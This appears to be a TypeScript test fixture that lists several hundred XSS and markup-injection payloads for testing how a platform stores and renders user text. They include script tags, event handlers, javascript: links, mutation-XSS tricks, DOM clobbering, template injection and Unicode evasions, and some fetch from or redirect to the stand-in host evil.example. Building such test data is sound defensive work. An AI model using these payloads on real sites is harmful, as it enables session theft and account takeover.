// Texts that would be more than text if anybody let them: each tries to call `pwned()`, to fetch from evil.example, to send
// the reader away, or to take the name of something. For every place where people write and every way it is shown.

const IMG = '<img src=x onerror=pwned()>';
const SCRIPT = '<script>pwned()</script>';
const EVIL = 'https://evil.example/x';
const base64 = (text: string) => Buffer.from(text).toString('base64');

const SCRIPTS = [
  SCRIPT,
  '<SCRIPT>pwned()</SCRIPT>',
  '<ScRiPt >pwned()</sCrIpT >',
  '<script/x>pwned()</script>',
  '<script\n>pwned()</script\n>',
  `<script src=${EVIL}.js></script>`,
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,pwned()"></script>',
  '<script type=module>pwned()</script>',
  '<<script>pwned();//<</script>',
  '<script>pwned()<!--',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  `">${SCRIPT}`,
  `'>${SCRIPT}`,
  `</title>${SCRIPT}`,
  `</textarea>${SCRIPT}`,
  `</style>${SCRIPT}`,
  `</script>${SCRIPT}`,
  `</p></div></main></body></html>${SCRIPT}`,
  '<svg><script>pwned()</script></svg>',
  '<svg><script href="data:text/javascript,pwned()"/></svg>',
  '<svg><script xlink:href="data:text/javascript,pwned()"></script></svg>',
];

const HANDLERS = [
  IMG,
  `">${IMG}`,
  `'>${IMG}`,
  '" onmouseover="pwned()',
  "' onfocus='pwned()' autofocus x='",
  '<img/src=x/onerror=pwned()>',
  '<img src=x OnErRoR="pwned()">',
  '<img src=x onerror\n=\npwned()>',
  '<img src=x onerror=&#112;wned()>',
  '<img src="x`onerror=pwned()`">',
  `<img """>${SCRIPT}">`,
  '<img src=x:x onerror=pwned()//',
  '<svg onload=pwned()>',
  '<svg/onload=pwned()//',
  '<body onload=pwned() onpageshow=pwned()>',
  '<details open ontoggle=pwned()>x</details>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()></select>',
  '<textarea autofocus onfocus=pwned()></textarea>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()></audio>',
  '<marquee onstart=pwned()>x</marquee>',
  '<p onpointerenter=pwned() onmouseover=pwned()>x</p>',
  '<a onclick=pwned() href=#>x</a>',
  '<style onload=pwned()></style>',
  `<link rel=stylesheet href=${EVIL} onerror=pwned()>`,
  '<object data=x onerror=pwned()></object>',
  '<iframe onload=pwned()></iframe>',
  '<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=pwned()>x</b>',
  '<x-y tabindex=1 autofocus onfocus=pwned()>x</x-y>',
  '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=pwned()>x</p>',
];

const ADDRESSES = [
  '<a href=javascript:pwned()>x</a>',
  '[x](javascript:pwned())',
  '[x](JaVaScRiPt:pwned())',
  '[x](javascript&colon;pwned())',
  '[x](&#106;avascript:pwned())',
  '[x](&#x6A;&#x61;&#x76;&#x61;script:pwned())',
  '[x](java&Tab;script:pwned())',
  '[x](java&NewLine;script:pwned())',
  '[x](<java\tscript:pwned()>)',
  '[x](<\u0001javascript:pwned()>)',
  '[x](<\u00a0javascript:pwned()>)',
  '[x](javascript://%0apwned())',
  '[x](javascript:pwned%28%29)',
  '[x](vbscript:pwned())',
  '[x](VBSCRIPT&#58;pwned())',
  `[x](<data:text/html,${SCRIPT}>)`,
  `[x](data:text/html;base64,${base64(SCRIPT)})`,
  '[x](<data:image/svg+xml,<svg onload=pwned()>>)',
  '[x](view-source:javascript:pwned())',
  '[x](blob:https://evil.example/x)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/x)',
  '[x](/\\evil.example/x)',
  '<javascript:pwned()>',
  '<data:text/html,pwned()>',
  '[x]: javascript:pwned()\n\n[x]',
  '![x](javascript:pwned())',
  `![x](${EVIL}.png)`,
  `![x](data:image/svg+xml;base64,${base64('<svg onload=pwned()>')})`,
  `[![x](${EVIL}.png)](javascript:pwned())`,
  `![x]\n\n[x]: ${EVIL}.png`,
  '[x](https://a.example/ "onmouseover=pwned()")',
  '[x](https://a.example/"onmouseover="pwned())',
  "[x](https://a.example/'onmouseover='pwned())",
  'https://a.example/"onmouseover="pwned()',
  `www.a.example/${SCRIPT}`,
  '<https://a.example/"onmouseover=pwned()>',
  `[x](ref:">${SCRIPT})`,
  'javascript:pwned()',
  'javascript:pwned()//https://a.example/',
  ' javascript:pwned()',
  `data:text/html,${SCRIPT}`,
];

const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">`,
  `<math><mi><mglyph><style>${IMG}`,
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  `<svg><foreignObject><iframe srcdoc="${SCRIPT}"></iframe></foreignObject></svg>`,
  '<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=pwned()>"></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  `<template>${SCRIPT}</template>`,
  '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>',
  `<plaintext>${IMG}`,
  '<listing>&lt;img src=x onerror=pwned()&gt;</listing>',
  '<noembed><p title="</noembed><img src=x onerror=pwned()>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=pwned()>"></noframes>',
  '</noscript><img src=x onerror=pwned()><noscript>',
  `<svg><title>${IMG}</title></svg>`,
  `<svg><desc><style>${IMG}</style></desc></svg>`,
  '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>',
  '<svg><a><set attributeName=href to=javascript:pwned() /><text y=20>x</text></a></svg>',
  '<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a></svg>',
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='pwned()'></svg>#x"></use></svg>`,
  `<svg><image href=${EVIL}.png></image></svg>`,
  '<math href="javascript:pwned()"><mi>x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:pwned()">x</maction></math>',
  `<select><option><style></option></select>${IMG}</style>`,
  `<table><tr><td><svg><style></td></tr></table>${IMG}`,
  `<a href="x"><table><a>${IMG}</a></table></a>`,
];

const DECLARATIONS = [
  `<!-->${IMG}-->`,
  `<!--->${IMG}-->`,
  `<!-- --!>${IMG} -->`,
  `<!-- <!-- -->${IMG}`,
  `--><!-- -->${IMG}`,
  `<![CDATA[${IMG}]]>`,
  `<svg><![CDATA[><image xlink:href="]]>${IMG}`,
  '<!DOCTYPE html [<!ENTITY x "pwned()">]>&x;',
  '<?xml-stylesheet href="javascript:pwned()"?>',
  `<?x ?>${IMG}`,
  `</ ${IMG}`,
  `<!x>${IMG}`,
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '&#x3c;img src=x onerror=pwned()&#x3e;',
  '&lt;img src=x onerror=pwned()>',
  '&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;',
  '&ltscript&gtpwned()&lt/script&gt',
  '%3Cscript%3Epwned()%3C/script%3E',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '\\x3cscript\\x3epwned()\\x3c/script\\x3e',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
];

const UNCLOSED = [
  '<img src="x',
  '<img src=x onerror="pwned()',
  '<a href="https://evil.example/?',
  "<div title='",
  '<textarea>',
  '<title>',
  '<style>',
  '<!--',
  '<script',
  '<script>',
  '</',
  '<',
  '"',
  '<plaintext>',
  '<select>',
];

const LOADING = [
  '<iframe src=javascript:pwned()></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="data:text/html,<script>parent.pwned()</script>"></object>',
  `<embed src=${EVIL}.swf>`,
  `<applet code=X archive=${EVIL}.jar></applet>`,
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  '<base href=https://evil.example/>',
  `<link rel=prefetch href=${EVIL}>`,
  `<link rel=stylesheet href=${EVIL}.css>`,
  `<form action=${EVIL}><input type=submit></form>`,
  '<form id=x></form><button form=x formaction=javascript:pwned()>x</button>',
  '<isindex type=image src=x onerror=pwned()>',
  '<frameset onload=pwned()>',
  '<portal src=https://evil.example/x>',
  `<video poster=${EVIL}.png></video>`,
  `<img srcset="${EVIL}.png 1x">`,
  `<picture><source srcset=${EVIL}.png><img></picture>`,
  `<input type=image src=${EVIL}.png>`,
  `<body background=${EVIL}.png>`,
  `<table background=${EVIL}.png><tr><td>x</table>`,
  `<a href=https://a.example/ ping=${EVIL}>x</a>`,
  `<style>@import '${EVIL}.css';</style>`,
  `<style>*{background:url(${EVIL})}</style>`,
  `<p style="background:url(${EVIL})">x</p>`,
  '<p style="width:expression(pwned())">x</p>',
  `<p style="-moz-binding:url(${EVIL}.xml)">x</p>`,
  `<p style="position:fixed;inset:0;content:url(${EVIL})">x</p>`,
];

const NAMES = [
  '<a id=pwned></a>',
  '<form id=cookie></form>',
  '<img name=cookie>',
  '<form name=forms><input name=length></form>',
  `<a id=location href=${EVIL}>x</a>`,
  '<img name=getElementById><img name=querySelector>',
  '<iframe name=name></iframe>',
  '<embed name=body><object id=body></object>',
  '<form id=attributes><input name=attributes><input name=parentNode></form>',
  '<a id=config></a><a id=config name=url href=https://evil.example/x></a>',
  '<form name=document><output name=domain>x</output></form>',
];

const MARKDOWN = [
  `\`\`\`">${SCRIPT}\nx\n\`\`\``,
  '```js onload=pwned()\nx\n```',
  `~~~${IMG}\nx\n~~~`,
  `| ${SCRIPT} |\n| --- |\n| ${IMG} |`,
  `> [!NOTE]\n> ${SCRIPT}`,
  `> [!${SCRIPT}]\n> x`,
  `::figure{diagram="x\\">${SCRIPT}"}`,
  '::figure{onload="pwned()"}',
  ':::links\n- [x](javascript:pwned())\n:::',
  `a[^1]\n\n[^1]: ${SCRIPT}`,
  `a[^"><script>pwned()</script>]\n\n[^"><script>pwned()</script>]: x`,
  `# ${IMG}`,
  '- [ ] <input onfocus=pwned() autofocus>',
  `\`${SCRIPT}\``,
  `\`\` \`${IMG}\` \`\``,
  '\\<script>pwned()\\</script>',
  `*${IMG}*`,
  '**[x](javascript:pwned())**',
  `[${IMG}](https://a.example/)`,
  `    ${SCRIPT}`,
  `x  \n${IMG}`,
  `</code></pre>${SCRIPT}`,
  `</blockquote></td></tr></table>${IMG}`,
];

const TEMPLATES = [
  "{{constructor.constructor('pwned()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: written by whoever attacks templates
  '${pwned()}',
  '<%= pwned() %>',
  '#{pwned()}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above
  '[[${pwned()}]]',
  '{% pwned() %}',
  '{{{pwned()}}}',
];

const UNICODE = [
  '＜script＞pwned()＜/script＞',
  '‹script›pwned()‹/script›',
  '\u00c0\u00bcscript\u00c0\u00bepwned()',
  '<ſcript>pwned()</ſcript>',
  '<ıframe src=javascript:pwned()>',
  `\u202e${SCRIPT}\u202c`,
  `\u2066${IMG}`,
  `\ufeff${SCRIPT}`,
  '<script\u2028>pwned()</script>',
  '<\u0000script>pwned()</script>',
  '<img src=x o\u0000nerror=pwned()>',
  '<img\u000bsrc=x\u000bonerror=pwned()>',
  '[x](java\u00adscript:pwned())',
  '[x](java\u200bscript:pwned())',
  '[x](ｊavascript:pwned())',
  `\ud800${SCRIPT}`,
];

/** Every one of them, once. */
export const HOSTILE_MARKUP: readonly string[] = [
  ...new Set([
    ...SCRIPTS,
    ...HANDLERS,
    ...ADDRESSES,
    ...MUTATIONS,
    ...DECLARATIONS,
    ...UNCLOSED,
    ...LOADING,
    ...NAMES,
    ...MARKDOWN,
    ...TEMPLATES,
    ...UNICODE,
  ]),
];

/** The same text as a title may hold it: one line, and no longer than titles are. */
export function asTitle(text: string): string {
  return (
    asStored(text)
      .replace(/\p{Cc}+/gu, ' ')
      .trim()
      .slice(0, 200) || '?'
  );
}

/** The same text without what no text of a course may hold. */
export function asStored(text: string): string {
  return (
    text
      .replaceAll('\u0000', '')
      .replace(/\p{Surrogate}/gu, '')
      .trim() || '?'
  );
}
